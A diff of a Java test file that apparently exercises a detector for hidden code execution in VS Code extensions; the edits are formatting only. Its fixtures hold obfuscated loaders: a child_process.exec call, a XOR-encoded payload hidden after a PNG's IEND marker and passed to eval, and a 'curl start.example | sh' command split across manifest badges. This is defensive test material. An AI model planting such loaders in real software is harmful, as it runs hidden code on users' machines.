@@ -46,7 +46,8 @@ class HiddenStartsTest {
                 "require('timers/promises').setTimeout(5, COMMAND).then(line => require('child_process').exec(line))",
             })
     void runsTheCommand(String script) {
-        assertRuns(Map.of("extension.js", "const COMMAND = '" + COMMAND + "', CODE = \"" + CODE + "\";\n" + script + ";"));
+        assertRuns(
+                Map.of("extension.js", "const COMMAND = '" + COMMAND + "', CODE = \"" + CODE + "\";\n" + script + ";"));
     }
 
     @Test
@@ -54,29 +55,26 @@ class HiddenStartsTest {
         StringBuilder hidden = new StringBuilder("\u0089PNG rows of a picture IEND....");
         CODE.chars().forEach(c -> hidden.append((char) (c ^ 0x55)));
 
-        assertRuns(Map.of(
-                "extension.js", """
+        assertRuns(Map.of("extension.js", """
                         const icon = require('fs').readFileSync(require('path').join(__dirname, 'icon.png'));
                         const tail = icon.subarray(icon.indexOf('IEND') + 8);
                         for (let i = 0; i < tail.length; i++) tail[i] ^= 0x55;
                         eval(tail.toString());
-                        """,
-                "icon.png", hidden.toString()));
+                        """, "icon.png", hidden.toString()));
     }
 
     @Test
     void aFileThatIsReadLaterIsRead() {
-        assertRuns(Map.of(
-                "extension.js", """
+        assertRuns(Map.of("extension.js", """
                         require('fs').readFile(__dirname + '/data.bin', (failed, data) => eval(data.toString('utf8')));
-                        """,
-                "data.bin", CODE));
+                        """, "data.bin", CODE));
     }
 
     @Test
     void theManifestIsReadAsTheEditorShowsIt() {
         assertRuns(Map.of(
-                "extension.js", """
+                "extension.js",
+                """
                         const vscode = require('vscode');
                         exports.activate = () => {
                           const own = vscode.extensions.getExtension('north.quiet').packageJSON;
@@ -84,7 +82,7 @@ class HiddenStartsTest {
                         };
                         """,
                 "package.json",
-                        "{\"name\": \"quiet\", \"publisher\": \"north\", \"badges\": [\"curl\", \"https://start.example/a\", \"|\","
-                                + " \"sh\"]}"));
+                "{\"name\": \"quiet\", \"publisher\": \"north\", \"badges\": [\"curl\", \"https://start.example/a\", \"|\","
+                        + " \"sh\"]}"));
     }
 }
